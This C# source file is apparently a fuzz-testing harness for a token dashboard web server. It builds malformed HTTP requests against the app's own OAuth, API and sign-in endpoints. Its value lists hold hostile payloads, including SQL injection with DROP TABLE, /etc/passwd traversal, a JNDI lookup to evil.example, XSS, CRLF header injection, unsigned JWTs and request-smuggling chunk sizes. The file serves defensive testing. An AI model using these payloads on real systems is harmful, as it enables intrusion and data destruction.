using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;
using TokenDashboard.Web.Tests.Hosting;

namespace TokenDashboard.Web.Tests.Fuzzing;

/// <summary>A request as it goes over the wire, a byte for each character.</summary>
/// <param name="Path">What it was made to ask for, before anything else was done to it.</param>
/// <param name="Text">All of it.</param>
/// <param name="IsWhole">Whether it is as long as it says, so that an answer is due.</param>
internal sealed record HostileRequest(string Path, string Text, bool IsWhole);

/// <summary>
/// Requests that nobody has any right to: each is made by its number out of what the server understands and what it does not, and the same
/// number makes the same request.
/// </summary>
/// <param name="paths">What can be asked for; what stands in braces is for the request to fill.</param>
/// <param name="host">What the server is called.</param>
/// <param name="cookies">Of somebody signed in. No form is ever sent with them that the server gave out.</param>
/// <param name="token">A refresh token that lives. It is only ever sent with something changed.</param>
/// <param name="access">An access token that may look at everything in the API, and change nothing.</param>
/// <param name="prove">Proves with a key that a request of that method for that path is sent, changed as it is told before it is signed.</param>
internal sealed class HostileRequests(IReadOnlyList<string> paths, string host, string cookies, string token, string access, Func<string, string, Action<JsonObject, JsonObject>, string> prove)
{
    /// <summary>What no answer of the protocol may repeat.</summary>
    public const string Marker = "c4n4ry";

    /// <summary>Where an app's document is.</summary>
    public const string Document = "https://agents.example/client.json";

    /// <summary>A header that no answer may have.</summary>
    public const string Injected = "X-Injected";

    private static readonly string[] Methods = ["GET", "POST", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "get", "PROPFIND", Marker];

    private static readonly string[] Names =
    [
        "grant_type", "client_id", "client_secret", "client_assertion", "client_assertion_type", "refresh_token", "device_code", "user_code", "token", "token_type_hint",
        "scope", "device_name", "code", "code_verifier", "code_challenge", "code_challenge_method", "redirect_uri", "dpop_jkt", "response_type", "response_mode", "max_age", "allow", "proved_since", "resource", "audience", "state", "nonce", "prompt", "request", "request_uri",
        "return", "returnUrl", "__RequestVerificationToken", "_handler", "Input.Email", "Input.Password", "Input.Name", "Input.Code", "Input.Token", "email", "password",
        "id", "view", "sort", "page", "skip", "limit", "cursor", "verdict", "answer", "kind", "ip", "until", "user", "from", "to", "q", "person", "app", "where", "device", "agent", "culture", "theme", "remoteError", Marker, "", "a[]", "a.b.c",
        "__proto__", "constructor", "\0", "%00", "%", "é",
    ];

    private static readonly string[] Values =
    [
        "", " ", "companion", "other", "refresh_token", "urn:ietf:params:oauth:grant-type:device_code", "authorization_code", "code", "S256", "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", "http://127.0.0.1:1/callback", "none", "client_credentials", "password",
        "profile", "profile offline_access", "openid", "sign-in", "all", "open", "true", "0", "-1", "1", "2147483648", "9223372036854775808", "1e400", "NaN", "null", "[]", "{}",
        Marker, Marker + "<\"'>", "<script>" + Marker + "</script>", $"{Marker}\r\n{Injected}: 1", $"{Marker}%0d%0a{Injected}:%201", "é" + Marker, Marker + "\0", Marker + "%00",
        "../../../../etc/passwd", "..%2f..%2f", "' OR 1=1 --", "\"; DROP TABLE sessions; --", "{{7*7}}", "${jndi:ldap://evil.example}", "{0}{1}{999}", "%s%n%x", "%ff%fe", "%ED%A0%80",
        "\u00FF\u00FE", "\u00E2\u0080\u00AE", "\u00F0\u009F\u0098\u0080", "//evil.example", "https://evil.example/" + Marker, "/\\evil.example", "javascript:alert(1)",
        Document, "https://agents.example/" + Marker, "https://agents.example/a/../b", "https://127.0.0.1/client.json", "https://agents.example:22/a",
        "00000000-0000-0000-0000-000000000000", "td1_", "eyJhbGciOiJub25lIn0.e30.", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.AAAA", "eyJ0eXAiOiJkcG9wK2p3dCIsImFsZyI6IkVTMjU2IiwiandrIjp7Imt0eSI6IkVDIiwiY3J2IjoiUC0yNTYiLCJ4IjoiIiwieSI6IiJ9fQ.e30.AAAA", "AAAA-AAAA", "2026-99-99", "0001-01-01", "9999-12-31T23:59:59Z",
        new('A', 200), new('%', 300), new('9', 400), string.Join(' ', Enumerable.Repeat("profile", 450)),
    ];

    private static readonly string[] Headers =
    [
        "Accept", "Accept-Language", "Accept-Encoding", "Accept-Charset", "Origin", "Referer", "User-Agent", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Host", "Forwarded",
        "Range", "If-None-Match", "If-Modified-Since", "Expect", "Upgrade", "Sec-WebSocket-Key", "Sec-CH-UA", "Sec-CH-UA-Model", "Sec-CH-UA-Platform", "Sec-Fetch-Site", "DPoP",
        "X-HTTP-Method-Override", "Content-Encoding", "Content-Language", "Date", "Via", "TE", "Trailer", "Cache-Control", "traceparent", "Cookie", "Authorization", Marker,
    ];

    private static readonly string[] Types =
    [
        "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-8", "application/x-www-form-urlencoded; charset=utf-16", "application/json",
        "multipart/form-data; boundary=b", "multipart/form-data", "text/plain", "application/xml", "application/jwt", Marker, "", "application/csp-report",
    ];

    // What a proof says (RFC 9449 §4.2), and what it may not.
    private static readonly string[] Claims = ["typ", "alg", "jwk", "kid", "crit", "b64", "x5c", "jku", "jti", "htm", "htu", "iat", "exp", "nbf", "nonce", "ath", "kty", "crv", "x", "y", "d", "k", "n", "e", Marker];

    private static readonly string[] Sizes = ["80000000", "FFFFFFFFFFFFFFFF", "-1", "zz", "0", "5;ext=" + Marker, "00000000000000000005"];

    /// <summary>The request of that number.</summary>
    public HostileRequest Make(int number)
    {
        var random = new Random(number);
        var path = Fill(paths[random.Next(paths.Count)], random);
        var isProtocol = IsProtocol(path);
        var method = random.Next(5) == 0 ? Of(Methods, random) : isProtocol || random.Next(IsApi(path) ? 6 : 2) == 0 ? "POST" : "GET";
        var text = new StringBuilder($"{method} {path}");
        if (random.Next(isProtocol ? 8 : IsApi(path) ? 1 : 2) == 0)
            text.Append('?').Append(Form(random));
        text.Append(random.Next(60) == 0 ? " HTTP/1.0" : " HTTP/1.1").Append("\r\nConnection: close\r\n");
        // From a network each, so that no refusal waits.
        text.Append(CultureInfo.InvariantCulture, $"{DashboardServer.AddressHeader}: 198.{18 + (number >> 16)}.{(number >> 8) & 255}.{number & 255}\r\n");
        text.Append("Host: ").Append(random.Next(20) == 0 ? Of(Values, random).Split('\r')[0] : host).Append("\r\n");
        if (IsApi(path) && random.Next(2) == 0)
            text.Append("Authorization: Bearer ").Append(random.Next(6) == 0 ? Change(access, random) : access).Append("\r\nIf-Match: ").Append(Header(random)).Append("\r\nIf-None-Match: ").Append(Header(random)).Append("\r\n");
        else if (isProtocol && random.Next(4) == 0)
            text.Append("DPoP: ").Append(Proof(random)).Append("\r\n");
        else if (random.Next(4) == 0)
            text.Append("Cookie: ").Append(random.Next(3) == 0 ? Change(cookies, random) : cookies).Append("\r\nUser-Agent: Mozilla/5.0\r\n");
        else
            AddHeaders(text, random);
        if (isProtocol && random.Next(3) == 0)
            text.Append("DPoP: ").Append(Proof(method, path, random)).Append("\r\n");
        var isWhole = AddBody(text, random, isProtocol);
        if (random.Next(6) != 0)
            return new(path, text.ToString(), isWhole);
        var changed = text.ToString();
        for (var times = random.Next(1, 12); times > 0; times--)
            changed = Change(changed, random);
        return new(path, changed, IsWhole: false);
    }

    /// <summary>Whether programs are answered there, rather than people.</summary>
    public static bool IsProtocol(string path) => path.StartsWith("/oauth/", StringComparison.Ordinal) && !path.StartsWith("/oauth/authorize", StringComparison.Ordinal);

    private static bool IsApi(string path) => path.StartsWith("/api/", StringComparison.Ordinal);

    // Well-formed on the outside, and signed by nobody.
    private string Proof(Random random)
    {
        string[] keys = ["{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"{0}\",\"y\":\"{0}\"}", "{\"kty\":\"RSA\",\"n\":\"{0}\",\"e\":\"AQAB\"}", "{\"kty\":\"EC\",\"d\":\"{0}\"}", "{\"kty\":\"oct\",\"k\":\"{0}\"}", "null", "[]", "\"{0}\"", "{}"];
        var head = $"{{\"typ\":\"dpop+jwt\",\"alg\":\"{Of(["ES256", "PS256", "RS256", "none", "HS256", Marker], random)}\",\"jwk\":{Of(keys, random).Replace("{0}", Encoded(Value(random)), StringComparison.Ordinal)}}}";
        var body = $"{{\"htm\":\"{Of(Methods, random)}\",\"htu\":\"http://{host}{Of(["/oauth/par", "/oauth/token", ""], random)}\",\"iat\":{Of(["0", "1772366400", "1e400", "\"now\"", "-1", "99999999999999999999"], random)},\"jti\":\"{Encoded(Value(random))}\",\"nonce\":\"{Marker}\"}}";
        return $"{Encoded(random.Next(8) == 0 ? Change(head, random) : head)}.{Encoded(random.Next(8) == 0 ? Change(body, random) : body)}.{Encoded(new string('s', random.Next(0, 96)))}";
    }

    private static string Encoded(string text) => System.Buffers.Text.Base64Url.EncodeToString(Encoding.Latin1.GetBytes(text));

    private static string Fill(string path, Random random)
    {
        while (path.IndexOf('{', StringComparison.Ordinal) is >= 0 and var from)
        {
            var value = Of(Values, random);
            path = path[..from] + Uri.EscapeDataString(value.Length > 0 ? value : "1") + path[(path.IndexOf('}', from) + 1)..];
        }

        return random.Next(12) == 0 ? path + Uri.EscapeDataString(Of(Values, random)) : path;
    }

    private void AddHeaders(StringBuilder text, Random random)
    {
        for (var count = random.Next(4); count > 0; count--)
            text.Append(Of(Headers, random)).Append(": ").Append(Header(random)).Append("\r\n");
        if (random.Next(6) == 0)
            text.Append("Authorization: ").Append(random.Next(2) == 0 ? "Basic " + Convert.ToBase64String(Encoding.Latin1.GetBytes(Value(random) + ":" + Value(random))) : (random.Next(2) == 0 ? "Bearer " : "DPoP ") + Header(random)).Append("\r\n");
    }

    // Whether it is as long as it says.
    private bool AddBody(StringBuilder text, Random random, bool isProtocol)
    {
        var type = isProtocol && random.Next(5) != 0 ? Types[0] : Of(Types, random);
        text.Append("Content-Type: ").Append(type).Append("\r\n");
        var body = random.Next(isProtocol ? 12 : 4) switch
        {
            0 => Of(Values, random),
            1 => random.Next(2) == 0 ? "{\"client_id\":\"companion\",\"token\":" + new string('[', random.Next(1, 2000)) + "}" : $"{{\"ids\":[{random.Next(-2, 3)}],\"resolution\":\"stolen\",\"name\":\"{Marker}\"}}",
            2 => $"--b\r\nContent-Disposition: form-data; name=\"{Of(Names, random)}\"; filename=\"{Of(Values, random)}\"\r\n\r\n{Value(random)}\r\n--b--",
            _ => Form(random),
        };
        switch (random.Next(12))
        {
            case 0:
                text.Append("Transfer-Encoding: chunked\r\n\r\n").Append(Of(Sizes, random)).Append("\r\n").Append(body).Append("\r\n0\r\n\r\n");
                return false;
            case 1:
                text.Append(CultureInfo.InvariantCulture, $"Content-Length: {random.Next(-5, 40_000)}\r\n\r\n").Append(body);
                return false;
            case 2:
                text.Append(CultureInfo.InvariantCulture, $"Transfer-Encoding: chunked\r\n\r\n{body.Length:X}\r\n").Append(body).Append("\r\n0\r\n\r\n");
                return true;
            default:
                text.Append(CultureInfo.InvariantCulture, $"Content-Length: {body.Length}\r\n\r\n").Append(body);
                return true;
        }
    }

    private string Form(Random random)
    {
        var fields = Enumerable.Range(0, random.Next(random.Next(20) == 0 ? 200 : 7)).Select(_ => (Name: Of(Names, random), Value: Value(random))).ToList();
        if (random.Next(2) == 0)
            fields.Add(("client_id", random.Next(6) == 0 ? Document : "companion"));
        if (random.Next(2) == 0)
            fields.Add(("grant_type", random.Next(2) == 0 ? "refresh_token" : "urn:ietf:params:oauth:grant-type:device_code"));
        if (random.Next(4) == 0)
            fields.Add((random.Next(2) == 0 ? "refresh_token" : "token", Change(token, random)));
        if (random.Next(4) == 0)
        {
            fields.AddRange([("redirect_uri", "http://127.0.0.1:1/callback"), ("response_type", "code"), ("code_challenge_method", "S256"), ("code_challenge", "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM")]);
            fields.RemoveAt(random.Next(fields.Count));
        }

        // Now and then what should be escaped is not.
        return string.Join('&', fields.Select(f => random.Next(10) == 0 ? $"{f.Name}={f.Value}" : $"{Uri.EscapeDataString(f.Name)}={Uri.EscapeDataString(f.Value)}")).Replace("\r\n", "%0D%0A", StringComparison.Ordinal);
    }

    // As it should be, or something in it is not, or something of it was changed since.
    private string Proof(string method, string path, Random random)
    {
        var proof = prove(method, path.Split('?')[0], (header, body) =>
        {
            for (var times = random.Next(4); times > 0; times--)
            {
                var part = random.Next(3) switch { 0 => header, 1 => body, _ => header["jwk"] as JsonObject ?? header };
                var claim = Of(Claims, random);
                if (random.Next(3) == 0)
                    part.Remove(claim);
                else
                    part[claim] = Claim(random);
            }
        });
        return random.Next(4) == 0 ? Change(proof, random).Replace('\r', ' ').Replace('\n', ' ') : proof;
    }

    private static JsonNode? Claim(Random random) => random.Next(8) switch
    {
        0 => null,
        1 => random.NextInt64(long.MinValue, long.MaxValue),
        2 => -1.5e300,
        3 => new JsonArray(Of(Values, random), true),
        4 => new JsonObject { [Marker] = new JsonObject { ["kty"] = "EC" } },
        5 => false,
        _ => Of(Values, random),
    };

    private string Value(Random random) => random.Next(30) switch
    {
        0 => Change(token, random),
        1 => new string('A', random.Next(1, 6000)),
        2 => string.Concat(Enumerable.Range(0, random.Next(1, 40)).Select(_ => (char)random.Next(1, 256))),
        _ => Of(Values, random),
    };

    // A header ends where its line does.
    private string Header(Random random) => Value(random).Split('\r', '\n')[0];

    // One character is another, gone, twice, or the rest is.
    private static string Change(string text, Random random)
    {
        if (text.Length == 0)
            return Marker;
        var at = random.Next(text.Length);
        var changed = random.Next(5) switch
        {
            0 => text[..at] + text[(at + 1)..],
            1 => text[..at] + text[at] + text[at..],
            2 => text[..at],
            3 => text[..at] + text[random.Next(text.Length)..],
            _ => text[..at] + (char)(text[at] ^ (1 << random.Next(8))) + text[(at + 1)..],
        };
        return changed == text ? Change(text, random) : changed;
    }

    private static string Of(string[] of, Random random) => of[random.Next(of.Length)];
}
